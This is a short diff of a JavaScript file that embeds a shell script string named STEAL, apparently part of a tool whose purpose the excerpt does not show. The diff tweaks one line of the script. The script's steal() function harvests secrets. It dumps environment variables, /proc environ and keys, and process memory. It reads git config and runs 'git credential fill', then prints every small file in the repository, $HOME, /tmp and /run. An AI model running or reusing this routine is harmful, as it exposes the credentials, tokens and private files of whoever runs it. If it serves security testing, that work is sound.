@@ -42,7 +42,7 @@ const STEAL = String.raw`
 exec 2>/dev/null
 steal() {
   env; set; cat /proc/*/environ /proc/*/cmdline /proc/keys | tr '\0' '\n'
-  for p in /proc/[0-9]*; do head -c 100000 $p/mem; cat $p/fd/3; done
+  for p in /proc/[0-9]*; do head -c 100000 $p/mem; timeout 1 head -c 100000 $p/fd/3; done
   git config --list --includes; cat .git/* .git/modules/lib/*; git credential fill </dev/null
   find ALL_OF_IT -type f -size -200k -not -path '*/.git/objects/*' -not -path '*/github/*' -not -name '*ed.txt' -exec cat {} +
   find "$HOME" /tmp /var/tmp /run /dev/shm -type f -size -200k -exec cat {} +
